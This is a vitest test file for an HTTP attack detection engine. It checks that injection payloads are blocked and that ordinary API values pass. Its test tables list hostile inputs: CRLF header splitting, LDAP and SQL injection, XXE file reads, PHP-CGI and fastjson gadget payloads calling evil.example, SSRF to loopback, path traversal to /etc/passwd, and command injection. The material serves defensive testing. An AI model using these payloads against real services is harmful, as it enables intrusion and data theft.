/**
 * HTTP attack techniques of the third HTTP round (issue #4): each payload here was written from
 * the technique, and each benign value is something an ordinary API receives. "Detected" is what
 * the bench counts: challenge or block (allowed: false).
 */
import { describe, expect, it } from 'vitest';
import { createDetectionEngine, httpScanText } from '../../src/detection/index.ts';

const engine = createDetectionEngine({ analysisCache: false });
const value = (content: string) => engine.inspect({ kind: 'http', content });
const request = (path: string, headers: Record<string, string> = {}, body?: string) =>
  engine.inspect({ kind: 'http', request: { method: body === undefined ? 'GET' : 'POST', path, headers: { host: 'api.example.com', ...headers }, ...(body === undefined ? {} : { body }) } });

describe('HTTP techniques: attacks are stopped', () => {
  it.each([
    ['response splitting with a cookie', 'lang=en%0d%0aSet-Cookie:%20admin=1', 'crlf.header-injection'],
    ['response splitting with a redirect', 'next=%0d%0aLocation:%20https://evil.example/', 'crlf.header-injection'],
    ['Unicode CR/LF read as bytes', 'q=x\u560d\u560aSet-Cookie: s=1', 'crlf.header-injection'],
    ['a smuggled request line', 'note=a%0aGET /admin HTTP/1.1', 'crlf.request-line'],
    ['mail header injection', 'email=me@example.org%0ABcc:list@example.net', 'crlf.mail-header'],
    ['an LDAP filter extended with OR', 'user=jdoe)|(uid=*', 'ldap.filter-operators'],
    ['an LDAP comparison spliced in', 'name=x)(employeeNumber>=0', 'ldap.filter-operators'],
    ['a run of format conversions', 'name=%08x.%08x.%08x.%08x', 'fmt.conversion-run'],
    ['a format-string write', 'title=ABCD%3$hn', 'fmt.write-or-position'],
    ['a DTD attribute list', '<!DOCTYPE r [<!ATTLIST r a CDATA "x">]><r/>', 'xxe.dtd-constructs'],
    ['XSLT reading a file', '<xsl:copy-of select="document(\'file:///etc/hosts\')"/>', 'xxe.xslt'],
    ['a framework session id as a parameter', '/account/login?JSESSIONID=0F1E2D3C4B5A', 'session.fixation-parameter'],
    ['a PHP short echo tag', 'tpl=<?=`id`?>', 'code.php-short-tag'],
    ['a php.ini directive through PHP-CGI', 'x=-d allow_url_include=1 -d auto_prepend_file=php://input', 'code.php-ini-directive'],
    ['a superglobal overwrite', '/index.php?_SERVER[DOCUMENT_ROOT]=http://evil.example/', 'code.php-superglobal-overwrite'],
    ['a PHP function split from its parenthesis by a comment', 'q=readfile/**/(\'index.php\')', 'code.comment-split-call'],
    ['a string-built PHP call', "cb=('sys'.'tem')('id')", 'code.php-expression-call'],
    ['a fastjson type hint', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}', 'code.type-hint'],
    ['an ORM lookup on a password', '/api/users?password__startswith=a', 'orm.secret-lookup'],
    ['prototype pollution through brackets', '/?a[constructor][prototype][isAdmin]=1', 'code.node'],
    ['a URL without slashes to loopback', 'url=http:127.0.0.1:6379/', 'ssrf.malformed-url'],
    ['a URL whose authority hides the real host', 'url=http://trusted.example%2f@evil.example/', 'ssrf.authority-confusion'],
    ['a container host name', 'webhook=host.docker.internal:2375/containers/json', 'ssrf.infrastructure-host'],
    ['an attribute break-out', 'q="><b>owned</b>', 'xss.value-breakout'],
    ['output thrown away in a command', 'host=8.8.8.8; cat /etc/hostname 2>/dev/null', 'pt.sensitive-unix'],
    ['a device read as a whole value (read-forever DoS)', 'file=/dev/urandom', 'pt.sensitive-unix'],
  ])('%s', async (_name, payload, id) => {
    const decision = await (payload.startsWith('/') ? request(payload) : value(payload));
    expect(decision.allowed).toBe(false);
    expect(decision.patterns_matched.map((pattern) => pattern.id)).toContain(id);
  });

  it('flags a line break in a header value, a parameter name or the path', async () => {
    for (const decision of [
      await request('/', { 'x-note': 'a%0d%0aX-Injected: 1' }),
      await request('/search?q=1&%0d%0aRemote-Addr:%20127.0.0.1=y'),
      await request('/index.php/PHP_VALUE%0Aauto_prepend_file=/etc/passwd'),
    ]) {
      expect(decision.allowed).toBe(false);
      expect(decision.patterns_matched.map((pattern) => pattern.id)).toContain('crlf.request-structure');
    }
  });

  it.each([
    ['a media type hidden in the form content type', '/orders', { 'content-type': 'application/x-www-form-urlencoded; boundary="application/json"' }, 'protocol.parser-confusion'],
    ['an XML type hidden in an unquoted parameter', '/orders', { 'content-type': 'application/x-www-form-urlencoded;charset=text/xml' }, 'protocol.parser-confusion'],
    ['an RFC 2109 cookie smuggling a session inside quotes', '/account', { cookie: '$Version=1; theme="dark; sid=stolen; x=y"' }, 'protocol.parser-confusion'],
    ['text after an array parameter bracket', '/search?item[0]x=1&item[0]y=<b>', {}, 'protocol.bogus-parameter-array'],
    ['a method override in the query string', '/orders/7?_method=DELETE', {}, 'protocol.method-override'],
    ['a percent-encoded method override', '/orders/7?confirm=1&_method=%50%55%54', {}, 'protocol.method-override'],
    ['the obsolete Request-Range header', '/files/report.pdf', { 'request-range': 'bytes=0-99,50-150,100-200' }, 'protocol.method-override'],
  ])('flags request-structure tricks: %s', async (_name, path, headers, id) => {
    const decision = await request(path, headers);
    expect(decision.allowed).toBe(false);
    expect(decision.patterns_matched.map((pattern) => pattern.id)).toContain(id);
  });

  it('leaves ordinary content types, cookies, array parameters, method-like values and ranges alone', async () => {
    for (const [path, headers] of [
      ['/upload', { 'content-type': 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW' }],
      ['/soap', { 'content-type': 'multipart/related; type="application/xop+xml"; start-info="text/xml"; boundary=uuid:0ca0e16e' }],
      ['/items', { 'content-type': 'application/json; charset=utf-8' }],
      ['/account', { cookie: 'MyVersion=1; session=abc' }],
      ['/search?filter[status][]=open&filter[tags][0]=a&sort[]=name', {}],
      ['/calendar?method=delete-all-instructions&view=week', {}],
      ['/api/logs?_method=unsubscribe', {}],
      ['/video.mp4', { range: 'bytes=0-1023' }],
    ] as const) {
      const decision = await request(path, headers);
      expect(decision.allowed, path).toBe(true);
    }
  });
});

describe('HTTP techniques: ordinary values pass', () => {
  it.each([
    ['prose with a label after a line break', 'Trip notes\nLocation: New York City\nCookie: oatmeal raisin'],
    ['a translation string with placeholders', 'Hello %s, you have %d new messages'],
    ['percent-encoded accented text and commas', 'name=caf%C3%A9%2C%20cr%C3%A8me%2C%20br%C3%BBl%C3%A9e'],
    ['a JSON-LD type', '{"@context":"https://schema.org","@type":"Person","name":"Ada"}'],
    ['a Google API error type URL', '{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"x"}'],
    ['a Django-style filter', '/api/books?author__name__icontains=tolkien&published__gte=1950'],
    ['a checkout session id', '/success?session_id=cs_test_a1b2c3'],
    ['an XML body with empty attributes', '<item id="" name="widget"><price currency="">10</price></item>'],
    ['a sentence with parentheses', 'See the appendix (page 4) (and the footnote) for details'],
    ['a sentence mentioning a console', 'Open the browser console and reload the page'],
    ['a profile that mentions /dev/null', 'bio=Software engineer. Previously @Google; now building stuff in /dev/null :)'],
  ])('%s', async (_name, payload) => {
    const decision = await (payload.startsWith('/') ? request(payload) : value(payload));
    expect(decision.allowed).toBe(true);
  });

  it('keeps the session cookie in its header and multi-line form text out of the structure check', async () => {
    expect((await request('/account', { cookie: 'PHPSESSID=abc123; theme=dark' })).allowed).toBe(true);
    const form = await request('/comments', { 'content-type': 'application/x-www-form-urlencoded' }, 'text=first%20line%0D%0Asecond%20line%0D%0Anote=%20ok');
    expect(form.patterns_matched.map((pattern) => pattern.id)).not.toContain('crlf.request-structure');
  });

  it('allows a Referer or Origin naming a loopback or intranet page, yet still blocks an injection in the Referer path and a forged URL in a parameter', async () => {
    for (const referer of ['http://127.0.0.1:8080/admin/index.html', 'http://localhost:3000/dashboard?tab=2', 'http://10.1.2.3/intranet/wiki']) {
      expect((await request('/api/orders?page=2', { referer, origin: referer.replace(/^(https?:\/\/[^/]+).*$/, '$1') })).allowed, referer).toBe(true);
    }
    expect((await request('/api/orders', { referer: "http://10.1.2.3/search?q=' UNION SELECT password FROM users--" })).allowed).toBe(false);
    expect((await request('/api/fetch?url=http://127.0.0.1:8080/admin')).allowed).toBe(false);
  });

  it('adds no structure line to an ordinary request', () => {
    const { text } = httpScanText({ method: 'GET', path: '/search?q=shoes&size=42', headers: { 'user-agent': 'Mozilla/5.0', cookie: 'a=1' } });
    expect(text).not.toContain('svc-protocol-anomaly');
  });
});

// Issue #35: kinds of misses seen on an outside corpus (written from the technique, not copied).
describe('HTTP techniques of issue #35', () => {
  it.each([
    ['a Windows path with its separators stripped', 'file=c:windowswin.ini', 'pt.windows-separator-stripped'],
    ['a stripped path to the hosts file', 'f=C:WINDOWSsystem32driversetchosts', 'pt.windows-separator-stripped'],
    ['a stripped path without a drive', 'path=windowssystem32configsam', 'pt.windows-separator-stripped'],
    ['a stripped web root', 'f=c:inetpubwwwrootweb.config', 'pt.windows-separator-stripped'],
    ['a regular expression over a repeated string', "q=1 and regexp_substring(repeat(right(database(),1),5000000),'x')", 'sqli.heavy-function'],
    ['a padded string inside another call', "id=1 and length(lpad('a',999999999,'a'))>1", 'sqli.heavy-function'],
    ['a repeat nested in a pattern match', 'q=rlike(repeat(0x41,100000000))', 'sqli.heavy-function'],
    ['a row generator', 'id=1 and 1=(select count(*) from generate_series(1,10000000))', 'sqli.heavy-function'],
    ['an echo after a closing quote and a pipe', 'a="|echo vulnerable', 'ci.quote-break-chain'],
    ['a cmd builtin after a closing quote and a pipe', "host=x'|ver", 'ci.quote-break-chain'],
    ['a builtin after a closing quote and a double ampersand', 'name=x"&&dir c:', 'ci.quote-break-chain'],
  ])('%s', async (_name, payload, id) => {
    const decision = await value(payload);
    expect(decision.allowed).toBe(false);
    expect(decision.patterns_matched.map((pattern) => pattern.id)).toContain(id);
  });

  it.each([
    ['traversal written as runs of dots', 'file=....//....//....//etc/passwd'],
    ['three-dot segments', 'file=.../.../.../etc/passwd'],
    ['encoded runs of dots', 'page=%2e%2e%2e%2e%2f%2e%2e%2e%2e%2fetc%2fpasswd'],
    ['doubly encoded separators', 'f=..%252f..%252f..%252fetc%252fpasswd'],
    ['semicolon-mangled segments', 'f=..;/..;/..;/etc/passwd'],
    ['a command after a quote and a pipe', 'host=127.0.0.1"|cat /etc/passwd'],
    ['a ping after a quote and a double pipe', "n=a'||ping -c 3 127.0.0.1||'"],
  ])('still blocks %s', async (_name, payload) => {
    expect((await value(payload)).allowed).toBe(false);
  });

  it.each([
    ['a file name with an ellipsis', 'file=report...final.pdf'],
    ['a Windows drive in prose', 'note=C: drive is full'],
    ['a temp folder in prose', 'note=c:\\temp is full'],
    ['a name with an apostrophe and a pipe', "name=O'Brien | Sales"],
    ['a quoted word and a pipe', 'q="hello" | world'],
    ['an ordinary repeat', 'title=Repeat after me, 3 times'],
    ['a small repeat call', 'expr=repeat(x, 3)'],
    ['a Windows version string', 'os=Windows 10 (build 19045)'],
  ])('lets %s through', async (_name, payload) => {
    expect((await value(payload)).allowed).toBe(true);
  });
});
